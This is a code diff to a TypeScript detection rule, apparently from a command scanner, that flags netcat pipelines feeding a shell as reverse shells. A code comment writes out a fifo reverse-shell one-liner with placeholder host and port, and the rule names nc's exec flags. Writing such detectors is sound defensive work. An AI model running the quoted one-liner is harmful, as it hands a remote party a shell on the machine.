@@ -1,5 +1,6 @@
 /** Programs that talk to the network: downloads are tracked so running them later is caught. */
 import { has, value } from "../args";
+import { programName, SHELLS } from "../wrappers";
 import { f, shown, writeFinding, type Finding, type Rule } from "./finding";
 
 export const curl: Rule = (cmd, a, ctx) => {
@@ -34,6 +35,9 @@ export const wget: Rule = (cmd, a, ctx) => {
 
 export const netcat: Rule = (cmd, a) => {
   if (has(a, "e", "c", "--exec", "--sh-exec", "--lua-exec")) return [f("dangerous", cmd, "gives whoever connects a shell on this machine")];
+  // `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: a shell's output goes out, and (through the fifo) its input comes back.
+  const shell = cmd.upstream.find((u) => SHELLS.has(programName(u.argv[0])));
+  if (shell) return [f("dangerous", cmd, `connects the shell \`${shell.source}\` to ${a.operands.map(shown).join(" ") || "the network"} (a reverse shell)`)];
   return [f("review", cmd, "opens a network connection")];
 };
 
